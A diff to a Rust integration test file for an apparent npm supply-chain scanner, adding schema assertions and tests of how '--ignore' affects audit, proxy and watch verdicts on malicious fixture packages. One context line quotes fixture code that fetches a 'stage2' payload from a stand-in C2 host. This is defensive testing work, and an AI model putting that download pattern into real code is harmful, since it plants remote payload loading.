@@ -188,6 +188,7 @@ fn npm_hijacked_update_is_caught() {
         String::from_utf8_lossy(&out.stderr)
     );
     let report = json_of(&out);
+    common::assert_schema("scan_report", &report);
     let pkg = &report["packages"][0];
     assert_eq!(pkg["version"], "1.0.1", "the latest tag is scanned");
     assert_eq!(pkg["verdict"], "malicious", "{pkg:#}");
@@ -291,6 +292,7 @@ fn npm_diff_reports_the_update() {
         String::from_utf8_lossy(&out.stderr)
     );
     let d = json_of(&out);
+    common::assert_schema("diff_report", &d);
     assert_eq!(d["old"]["version"], "1.0.0");
     assert_eq!(d["new"]["version"], "1.0.1");
     assert_eq!(d["verdict"]["level"], "malicious");
@@ -820,8 +822,10 @@ fn audit_npm_project_with_the_loopback_registry() {
         String::from_utf8_lossy(&out.stderr)
     );
     let r = json_of(&out);
+    common::assert_schema("audit_report", &r);
     let helper = by_name(&r, "crypto-helper-js");
     assert_eq!(helper["verdict"], "malicious");
+    audit_ignores(dir.path(), &env, helper);
     assert_eq!(helper["policy"]["decision"], "block");
     assert_eq!(
         helper["dependency_path"],
@@ -3147,4 +3151,160 @@ http.get('http://c2.example.invalid/stage2', (res) => {
         "{cut}"
     );
     assert_eq!(out.status.code(), Some(1), "{r}");
+}
+
+/// `audit --ignore` of every rule a dependency triggers: its findings are listed as
+/// ignored and no longer block it.
+fn audit_ignores(dir: &Path, env: &[(&'static str, String)], helper: &Value) {
+    let mut rules: Vec<&str> = helper["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f["rule"].as_str().unwrap())
+        .collect();
+    rules.sort_unstable();
+    rules.dedup();
+    let mut args = vec!["audit", "app", "--format", "json"];
+    for r in &rules {
+        args.extend(["--ignore", *r]);
+    }
+    let r = json_of(&run(dir, &args, env));
+    common::assert_schema("audit_report", &r);
+    let helper = by_name(&r, "crypto-helper-js");
+    assert_eq!(helper["verdict"], "clean", "{helper:#}");
+    assert_ne!(helper["policy"]["decision"], "block", "{helper:#}");
+    let ignored = helper["ignored"].as_array().unwrap();
+    assert!(
+        !ignored.is_empty() && ignored.iter().all(|i| i["by"] == "--ignore"),
+        "{helper:#}"
+    );
+}
+
+/// The proxy with `--ignore`: the rules a malicious tarball triggers, ignored, let it
+/// through; the verdict stored without them does not answer for the proxy that ignores
+/// them (on the same store), nor the other way round.
+#[test]
+fn proxy_applies_ignored_rules() {
+    let server = Loopback::start();
+    npm_registry(&server);
+    let dir = tempfile::tempdir().unwrap();
+    let env = store_and_cache(dir.path());
+    let mut scan_env = npm_env(&server, &dir.path().join("scan-cache"));
+    scan_env.extend(env.iter().cloned());
+    let scanned = json_of(&run(
+        dir.path(),
+        &[
+            "scan",
+            "--format",
+            "json",
+            "--no-history",
+            "npm:crypto-helper-js@4.2.1",
+        ],
+        &scan_env,
+    ));
+    let mut rules: Vec<&str> = scanned["packages"][0]["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f["rule"].as_str().unwrap())
+        .collect();
+    rules.sort_unstable();
+    rules.dedup();
+    assert!(!rules.is_empty(), "{scanned:#}");
+    let upstream = format!("{}/npm/", server.url);
+    let file = "/npm/crypto-helper-js/-/crypto-helper-js-4.2.1.tgz";
+
+    let strict = start_proxy(dir.path(), &["--npm-upstream", &upstream], &env);
+    assert_eq!(fetch_url(&strict.url, file).0, 403);
+    drop(strict);
+
+    let mut args = vec!["--npm-upstream", upstream.as_str()];
+    for r in &rules {
+        args.extend(["--ignore", *r]);
+    }
+    let lenient = start_proxy(dir.path(), &args, &env);
+    let (status, body) = fetch_url(&lenient.url, file);
+    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&body));
+    drop(lenient);
+
+    let strict = start_proxy(dir.path(), &["--npm-upstream", &upstream], &env);
+    assert_eq!(
+        fetch_url(&strict.url, file).0,
+        403,
+        "the stored verdict stays strict"
+    );
+}
+
+/// `watch --ignore`: a new release whose every finding is of an ignored rule raises no
+/// alert (the same release alerts without it: `watch_alerts_once_per_hijacked_release`).
+#[test]
+fn watch_applies_ignored_rules() {
+    let server = Loopback::start();
+    npm_registry(&server);
+    let full: Value = serde_json::from_slice(&fetch(&server, "/npm/webfetch")).unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    let mut env = npm_env(&server, &dir.path().join("cache"));
+    env.push((
+        "CUSTOMS_STORE",
+        dir.path().join("store.sqlite3").display().to_string(),
+    ));
+    // The rules the update and the new release trigger, as `diff` finds them.
+    let d = json_of(&run(
+        dir.path(),
+        &[
+            "diff",
+            "--format",
+            "json",
+            "npm:webfetch@1.0.0",
+            "npm:webfetch@1.0.1",
+        ],
+        &env,
+    ));
+    let mut rules: Vec<String> = d["changes"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .chain(d["new"]["findings"].as_array().unwrap())
+        .map(|f| f["rule"].as_str().unwrap().to_owned())
+        .collect();
+    rules.sort_unstable();
+    rules.dedup();
+    assert!(!rules.is_empty(), "{d:#}");
+    only_versions(&server, "webfetch", &full, &["0.9.4", "1.0.0"]);
+    let jsonl = dir.path().join("alerts.jsonl");
+    let watch = || {
+        std::thread::sleep(std::time::Duration::from_secs(1));
+        let mut args = vec![
+            "watch",
+            "--package",
+            "npm:webfetch",
+            "--interval",
+            "1s",
+            "--once",
+            "--alerts-jsonl",
+            jsonl.to_str().unwrap(),
+        ];
+        for r in &rules {
+            args.extend(["--ignore", r.as_str()]);
+        }
+        run(dir.path(), &args, &env)
+    };
+    let out = watch();
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    only_versions(&server, "webfetch", &full, &["0.9.4", "1.0.0", "1.0.1"]);
+    let out = watch();
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}{}",
+        stdout(&out),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(!stdout(&out).contains("ALERT"), "{}", stdout(&out));
+    assert!(!jsonl.exists() || std::fs::read_to_string(&jsonl).unwrap().is_empty());
 }
